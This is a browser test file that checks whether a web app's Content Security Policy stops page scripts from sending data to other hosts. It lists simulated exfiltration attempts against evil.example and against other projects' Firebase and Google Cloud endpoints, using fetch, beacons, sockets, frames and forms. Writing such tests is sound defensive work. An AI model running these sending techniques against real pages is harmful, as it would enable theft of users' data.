import type { Page } from "@playwright/test";
import { expect, test } from "./support/fixtures.ts";

interface Attempt {
  readonly url: string;
  readonly by: "fetch" | "beacon" | "socket" | "events" | "form" | "frame";
}

/** Whether the content policy of the page, and not the network of this machine, blocked an attempt to send data. */
function isRefused(page: Page, attempt: Attempt): Promise<boolean> {
  return page.evaluate(async ({ url, by }) => {
    const refused = new Promise<boolean>((resolve) => {
      document.addEventListener("securitypolicyviolation", () => resolve(true), { once: true });
      const ended = () => setTimeout(() => resolve(false), 0);
      if (by === "fetch") fetch(url, { method: "POST", mode: "no-cors", body: "everything" }).then(ended, ended);
      if (by === "events") new EventSource(url).addEventListener("error", ended);
      if (by === "beacon") {
        navigator.sendBeacon(url, "everything");
        // A beacon reports no outcome, and later requests are checked after it.
        void fetch("/robots.txt").then(ended, ended);
      }
      if (by === "socket") {
        try {
          new WebSocket(url).addEventListener("error", ended);
        } catch {
          ended();
        }
      }
      if (by === "frame") {
        const frame = document.createElement("iframe");
        frame.src = url;
        frame.addEventListener("load", ended);
        document.body.append(frame);
      }
      if (by === "form") {
        const form = document.createElement("form");
        form.action = url;
        form.method = "post";
        document.body.append(form);
        form.submit();
      }
    });
    return refused;
  }, attempt);
}

const FOREIGN_ATTEMPTS: readonly Attempt[] = [
  { by: "fetch", url: "https://another-default-rtdb.firebaseio.com/stolen.json" },
  { by: "beacon", url: "https://another-default-rtdb.firebaseio.com/stolen.json" },
  { by: "events", url: "https://another-default-rtdb.firebaseio.com/stolen.json" },
  { by: "fetch", url: "https://another-default-rtdb.europe-west1.firebasedatabase.app/stolen.json" },
  { by: "socket", url: "wss://another-default-rtdb.europe-west1.firebasedatabase.app/.ws" },
  { by: "fetch", url: "https://firestore.googleapis.com/v1/projects/another/databases/(default)/documents/stolen" },
  { by: "fetch", url: "https://storage.googleapis.com/upload/storage/v1/b/another/o?name=stolen" },
  { by: "fetch", url: "https://pubsub.googleapis.com/v1/projects/another/topics/stolen:publish" },
  { by: "fetch", url: "https://us-central1-another.cloudfunctions.net/stolen" },
  { by: "fetch", url: "https://evil.example/" },
  { by: "beacon", url: "https://evil.example/" },
  { by: "socket", url: "wss://evil.example/" },
  { by: "frame", url: "https://evil.example/" },
  { by: "form", url: "https://evil.example/" },
];

const OWN_ATTEMPTS: readonly Attempt[] = [
  { by: "fetch", url: "https://identitytoolkit.googleapis.com/v1/accounts:lookup" },
  { by: "fetch", url: "https://securetoken.googleapis.com/v1/token" },
  { by: "fetch", url: "https://firebasestorage.googleapis.com/v0/b/ours/o" },
  { by: "socket", url: "wss://ours-default-rtdb.firebaseio.com/.ws?v=5" },
  // The database service redirects its clients to hosts such as this one.
  { by: "socket", url: "wss://s-usc1c-nss-200.firebaseio.com/.ws?v=5&ns=ours-default-rtdb" },
];

for (const path of ["/login", "/a/b/c"])
  test(`a script on ${path} cannot send data to another project or host`, async ({ page, expectConsole }) => {
    expectConsole(/Content Security Policy|Refused to|net::ERR|404/);
    await page.goto(path);
    for (const attempt of FOREIGN_ATTEMPTS) expect([attempt, await isRefused(page, attempt)]).toEqual([attempt, true]);
    // The test machine has no internet: allowed requests fail in the network.
    for (const attempt of OWN_ATTEMPTS) expect([attempt, await isRefused(page, attempt)]).toEqual([attempt, false]);
  });
